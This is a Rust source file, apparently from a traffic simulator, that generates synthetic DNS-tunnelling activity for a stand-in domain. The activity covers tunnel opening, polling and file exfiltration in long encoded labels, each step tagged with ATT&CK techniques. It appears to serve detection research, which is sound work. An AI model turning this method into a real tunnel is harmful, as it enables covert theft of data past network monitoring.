//! A tunnel through DNS: orders and stolen data travel in the names that are asked for.
//!
//! Modelled on: E. Ekman, "iodine" and R. Bowes, "dnscat2", the documentation of both programs' protocols;
//! G. Farnham, "Detecting DNS Tunneling" (SANS Institute, 2013). From these: finding out which types of
//! record get through, polling for orders while idle, data upstream in labels as long as may be.

use super::{AttackKind, AttackStep, Script};
use crate::net::{HostId, MILLI, Net, SECOND};
use crate::speak::dns::{self, Data};

pub(crate) const KIND: AttackKind = AttackKind {
    name: "dns-tunnel",
    about: "a host gives data away in long names of one domain that it asks its name server for",
    scenes: &["home", "plant", "retail"],
    benign: false,
    steps: &[
        AttackStep {
            name: "tunnel-opening",
            about: "The program on the host finds out which types of record get through the name server, \
                    and agrees with the far end on how to code.",
            techniques: &["T1071.004", "T1572"],
        },
        AttackStep {
            name: "tunnel-polling",
            about: "It asks for orders every few seconds with names that never repeat; the name server \
                    passes them on, so that no connection to the attacker is ever seen.",
            techniques: &["T1071.004", "T1572"],
        },
        AttackStep {
            name: "exfiltration",
            about: "A file goes out in pieces of a hundred and fifty bytes, coded as labels of full length.",
            techniques: &["T1048.003", "T1132.001", "T1030"],
        },
    ],
    set_up,
};

const DOMAIN: &str = "t.cdn-metrics.example";

/// Labels that hold `length` characters of base 32 made of chance.
fn labels(net: &mut Net, length: usize) -> String {
    let mut text = String::new();
    for place in 0..length {
        if place > 0 && place % 60 == 0 {
            text.push('.');
        }
        text.push(char::from(b"abcdefghijklmnopqrstuvwxyz234567"[usize::from(net.rng.u8() & 31)]));
    }
    text
}

/// A question whose name carries `up` characters and whose answer of a type carries `down` bytes.
fn carry(net: &mut Net, (host, names): (HostId, HostId), kind: u16, up: usize, down: usize) {
    let name = format!("{}.{DOMAIN}", labels(net, up));
    let data = match kind {
        5 => Data::Cname(format!("{}.{DOMAIN}", labels(net, down))),
        16 => Data::Txt(vec![net.rng.hex(down)]),
        _ => Data::Raw(kind, net.rng.bytes(down)),
    };
    dns::query(net, host, names, &name, data);
}

/// The experimental type that may hold anything (RFC 1035 section 3.3.10).
const NULL: u16 = 10;

fn set_up(net: &mut Net, script: Script) {
    let [host, names] = if net.has("corporate-dns") {
        ["historian", "corporate-dns"]
    } else if net.has("pos-server") {
        ["pos-server", "firewall"]
    } else {
        ["hub", "router"]
    }
    .map(|name| net.host(name));
    let pair = (host, names);
    script.act(net, ("tunnel-opening", 0), (host, &[names]), move |net| {
        for kind in [NULL, 16, 5, NULL, NULL] {
            carry(net, pair, kind, 24, 40);
            net.pause_us(200_000, 900_000);
        }
    });
    let polling = script.stage(net, "tunnel-polling", host, &[names]);
    let period = (script.span / 80).max(2 * SECOND);
    net.during(polling, |net| {
        net.every(script.at(8), period, move |net| {
            let kind = if net.rng.u8() < 60 { 16 } else { 5 };
            carry(net, pair, kind, 28, 18);
        });
    });
    let leak = script.stage(net, "exfiltration", host, &[host, names]);
    net.during(leak, |net| {
        let mut left = 300_u32;
        net.every(script.at(45), 120 * MILLI, move |net| {
            if left > 0 {
                left -= 1;
                let kind = if left.is_multiple_of(3) { 16 } else { NULL };
                carry(net, pair, kind, 200, 6);
            }
        });
    });
}
